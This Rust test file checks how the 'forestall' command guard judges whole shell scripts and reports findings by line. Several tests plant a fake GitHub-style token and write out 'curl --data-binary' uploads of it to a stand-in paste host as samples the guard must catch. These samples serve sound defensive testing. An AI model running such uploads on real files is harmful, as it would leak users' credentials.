//! `forestall check --script`: every command of a script through the same judge, each finding with its line.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

const STOP: &str = "forestall self-test-stop x";

fn command(dir: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_forestall"));
    command
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", dir)
        .env("LANG", "C.UTF-8")
        .stdin(Stdio::null());
    command
}

fn check(dir: &Path, args: &[&str]) -> (Option<i32>, String, String) {
    said(&command(dir).arg("check").args(args).output().unwrap())
}

fn said(output: &Output) -> (Option<i32>, String, String) {
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (output.status.code(), text(&output.stdout), text(&output.stderr))
}

/// Status and the numbers of the lines in which something was found.
#[track_caller]
fn lines(dir: &Path, script: impl AsRef<[u8]>) -> (Option<i32>, Vec<u64>) {
    fs::write(dir.join("script"), script).unwrap();
    let (status, out, err) = check(dir, &["--json", "--script", "script"]);
    let json: serde_json::Value = serde_json::from_str(&out).unwrap_or_default();
    assert!(json.is_object(), "{out}{err}");
    assert_eq!(json["file"], "script");
    let numbers = json["lines"].as_array().unwrap().iter().map(|line| line["line"].as_u64().unwrap());
    (status, numbers.collect())
}

#[test]
fn each_finding_has_the_line_of_the_guilty_words() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    let script = format!(
        "#!/bin/bash\n# {STOP}\nif true; then\n  true && {STOP}\nfi\ncat <<END\n{STOP}\nEND\n\
         f() {{\n  {STOP}\n}}\ng() {{\n  {STOP}\n}}\nf\ncase $1 in\n  a) {STOP} ;;\nesac\necho '{STOP}'\n"
    );
    assert_eq!(lines(dir, &script), (Some(4), vec![4, 10, 17]));
    // The same with the line ends of another system; spans are in the bytes of the file.
    let dos = script.replace('\n', "\r\n");
    assert_eq!(lines(dir, &dos), (Some(4), vec![4, 10, 17]));
    let (_, out, _) = check(dir, &["--json", "--script", "script"]);
    let json: serde_json::Value = serde_json::from_str(&out).unwrap();
    for line in json["lines"].as_array().unwrap() {
        let span = line["findings"][0]["span"].as_array().unwrap();
        let [start, end] = [0, 1].map(|at| usize::try_from(span[at].as_u64().unwrap()).unwrap());
        assert_eq!(&dos[start..end], STOP);
    }
    let (status, out, err) = check(dir, &["--script", "script"]);
    assert_eq!(status, Some(4), "{err}");
    assert!(out.starts_with("script:4: deny: This is the self-test"), "{out}");
    assert!(out.contains("\n    true && forestall self-test-stop x\n"), "{out}");
    assert!(out.ends_with("\nscript: 3 to stop\n"), "{out}");
    assert_eq!(fs::read_dir(dir).unwrap().count(), 1, "nothing ran and nothing was written");
}

#[test]
fn what_a_script_sets_and_where_it_goes_counts_below() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    fs::create_dir(dir.join("sub")).unwrap();
    fs::write(
        dir.join("sub/notes"),
        format!("token = {}\n", ["ghp_", "zQ4mWx8LkT2vRb7NcYp1sHd6JfGa9e0Bpawt"].concat()),
    )
    .unwrap();
    let upload = |before: &str| lines(dir, format!("{before}\ncurl --data-binary @notes \"$HOST/up\"\n")).1;
    assert_eq!(upload("HOST=https://paste.example.com; cd sub"), [2]);
    assert_eq!(upload("HOST=https://paste.example.com"), [] as [u64; 0]);
    assert_eq!(upload("HOST=https://api.github.com; cd sub"), [] as [u64; 0]);
    assert_eq!(upload("HOST=https://paste.example.com; (cd sub)"), [] as [u64; 0]);
}

#[test]
fn a_script_knows_where_it_stands() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    fs::create_dir(dir.join("sub")).unwrap();
    let token = ["ghp_", "zQ4mWx8LkT2vRb7NcYp1sHd6JfGa9e0Bpawt"].concat();
    fs::write(dir.join("sub/notes"), format!("token = {token}\n")).unwrap();
    for (go, status) in [
        ("cd \"$(dirname \"$0\")\"", 3),
        ("cd `dirname $0`", 3),
        ("cd \"$(dirname -- \"${BASH_SOURCE[0]}\")\" || exit", 3),
        (
            "HERE=\"$(cd \"$(dirname \"${BASH_SOURCE[0]:-$0}\")\" >/dev/null 2>&1 && pwd -P)\"\ncd \"$HERE\"",
            3,
        ),
        ("cd \"${0%/*}\"", 3),
        ("cd \"$(dirname \"$(readlink -f \"$0\")\")\"", 3),
        ("cd \"$(dirname \"$0\")/..\"", 0),
        ("cd \"$(dirname \"$0\")\"; cd ../sub", 3),
        ("", 0),
    ] {
        let script = format!("#!/bin/bash\n{go}\ncurl --data-binary @notes https://paste.example.com/up\n");
        fs::write(dir.join("sub/up"), script).unwrap();
        let (code, out, err) = check(dir, &["--script", "sub/up"]);
        assert_eq!(code, Some(status), "{go}: {out}{err}");
    }
    fs::write(
        dir.join("sub/up.zsh"),
        "cd ${0:A:h}\ncurl --data-binary @notes https://paste.example.com/up\n",
    )
    .unwrap();
    assert_eq!(check(dir, &["--script", "sub/up.zsh"]).0, Some(3));
    // What a script is called with is only known to `exec`.
    fs::write(dir.join("up"), "curl --data-binary \"@$1\" \"$2\"\n").unwrap();
    fs::write(dir.join("curl"), "#!/bin/sh\nexit 0\n").unwrap();
    fs::set_permissions(dir.join("curl"), fs::Permissions::from_mode(0o755)).unwrap();
    for (arguments, code) in [
        (["sub/notes", "https://paste.example.com"], Some(77)),
        (["sub/nothing", "https://paste.example.com"], Some(0)),
        (["sub/notes", "https://api.github.com"], Some(0)),
    ] {
        let output = Command::new("setsid")
            .args(["--wait", env!("CARGO_BIN_EXE_forestall"), "exec", "sh", "up"])
            .args(arguments)
            .current_dir(dir)
            .env("HOME", dir)
            .env("PATH", format!("{}:{}", dir.display(), std::env::var("PATH").unwrap()))
            .output()
            .unwrap();
        assert_eq!(output.status.code(), code, "{arguments:?}: {output:?}");
    }
}

#[test]
fn large_scripts_are_judged_to_the_end() {
    let dir = tempfile::tempdir().unwrap();
    let filler = "if true; then git status | cat; fi\necho \"text $HOME\"\n";
    let repeats = 220_000 / filler.len();
    let script = format!("{}{STOP}\n", filler.repeat(repeats));
    let start = Instant::now();
    assert_eq!(lines(dir.path(), &script), (Some(4), vec![2 * repeats as u64 + 1]));
    assert!(start.elapsed() < Duration::from_secs(5), "{:?}", start.elapsed());
    // Its harmless twin.
    assert_eq!(lines(dir.path(), filler.repeat(repeats)), (Some(0), vec![]));
    // A block that never ends does not hide what stands in it.
    let open = format!("if true; then\n{}{STOP}\n", "echo one two\n".repeat(12_000));
    let (status, found) = lines(dir.path(), &open);
    assert_eq!((status, found.last()), (Some(4), Some(&12_002)));
}

#[test]
fn what_cannot_be_read_is_said_with_its_line() {
    let dir = tempfile::tempdir().unwrap();
    assert_eq!(lines(dir.path(), "echo one\n\necho 'two\nthree\n"), (Some(3), vec![3]));
    let deep = format!("echo one\necho {}ls{}\n", "$(".repeat(80), ")".repeat(80));
    assert_eq!(lines(dir.path(), &deep), (Some(3), vec![2]));
    let many: String = (0..40_000).map(|_| "ls -la\n").collect();
    let (status, found) = lines(dir.path(), &many);
    assert!(status == Some(3) && found.len() == 1 && found[0] > 30_000, "{status:?} {found:?}");
    // Syntax that is not known is a remark, and its words are judged.
    fs::write(dir.path().join("script"), format!("echo one\nif {STOP}; fi fi\n")).unwrap();
    let (status, out, _) = check(dir.path(), &["--script", "script"]);
    assert_eq!(status, Some(4));
    assert!(out.contains("script:2: note: forestall does not know this syntax"), "{out}");
}

#[test]
fn what_grows_without_end_is_cut_off() {
    let dir = tempfile::tempdir().unwrap();
    let start = Instant::now();
    let doubled = format!("x=a\n{}echo $x\n", "x=$x$x\n".repeat(70));
    let functions: String = (0..60).map(|n| format!("f{n}() {{ f{} \"$1$1\"; }}\n", n + 1)).collect();
    let words = format!("x='{}'\nls {}\n", "a ".repeat(5000), "$x ".repeat(2000));
    let pushes: String = (0..30_000).map(|n| format!("git push -f origin b{n}\n")).collect();
    for script in [&doubled, &words, &pushes] {
        let (status, found) = lines(dir.path(), script);
        assert!(status == Some(3) && !found.is_empty(), "{status:?} {found:?}");
    }
    assert!(matches!(lines(dir.path(), functions + "f0 aa\n").0, Some(0 | 3)));
    assert_eq!(check(dir.path(), &[&doubled.replace('\n', ";")]).0, Some(3), "a typed line likewise");
    assert!(start.elapsed() < Duration::from_secs(30), "{:?}", start.elapsed());
    // Ordinary use comes nowhere near.
    let config = format!("HOST=example.org\ncat <<END\n{}END\n", "server $HOST $HOST\n".repeat(1500));
    assert_eq!(lines(dir.path(), config), (Some(0), vec![]));
}

#[test]
fn the_shell_is_asked_of_the_script() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    // zsh does not split the value of a variable, so the words are another command's there.
    let body = "cmd='forestall self-test-stop x'\n$cmd\n";
    assert_eq!(lines(dir, format!("#!/bin/sh\n{body}")).0, Some(4));
    assert_eq!(lines(dir, format!("#!/usr/bin/env zsh\n{body}")).0, Some(0));
    assert_eq!(lines(dir, body).0, Some(4));
    let (status, ..) = check(dir, &["--shell", "zsh", "--script", "script"]);
    assert_eq!(status, Some(0));
    fs::rename(dir.join("script"), dir.join("script.zsh")).unwrap();
    assert_eq!(check(dir, &["--script", "script.zsh"]).0, Some(0));
}

#[test]
fn what_is_no_script_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    fs::write(dir.join("python"), "#!/usr/bin/env python3\nprint(1)\n").unwrap();
    fs::write(dir.join("binary"), b"\x7fELF\0\x01\x02").unwrap();
    fs::write(dir.join("large"), "a\n".repeat(600_000)).unwrap();
    for (file, text) in [
        (".", "is a directory"),
        ("missing", "cannot be read: No such file"),
        ("python", "a script for python3"),
        ("binary", "is a binary file"),
        ("large", "larger than the 1 MiB"),
        ("/dev/zero", "larger than the 1 MiB"),
    ] {
        let (status, out, err) = check(dir, &["--script", file]);
        assert_eq!((status, out.as_str()), (Some(1), ""), "{file}: {err}");
        assert!(err.contains(text), "{file}: {err}");
    }
    for args in [&["--script"][..], &["--script", "x", "ls"]] {
        assert_eq!(check(dir, args).0, Some(2), "{args:?}");
    }
}

#[test]
fn standard_input_and_any_bytes() {
    let dir = tempfile::tempdir().unwrap();
    for (input, status, line) in [
        (&b"echo \xff\xfe\nforestall self-test-stop \xff\n"[..], 4, "-:2: deny"),
        (b"", 0, "-: nothing to stop"),
        (b"\n\n\r\n", 0, "-: nothing to stop"),
        (b"\xef\xbb\xbf#!/bin/sh\nforestall self-test-stop x", 4, "-:2: deny"),
    ] {
        let mut child = command(dir.path())
            .args(["check", "--script", "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(input).unwrap();
        let (code, out, _) = said(&child.wait_with_output().unwrap());
        assert_eq!(code, Some(status), "{out}");
        assert!(out.contains(line), "{out}");
    }
}
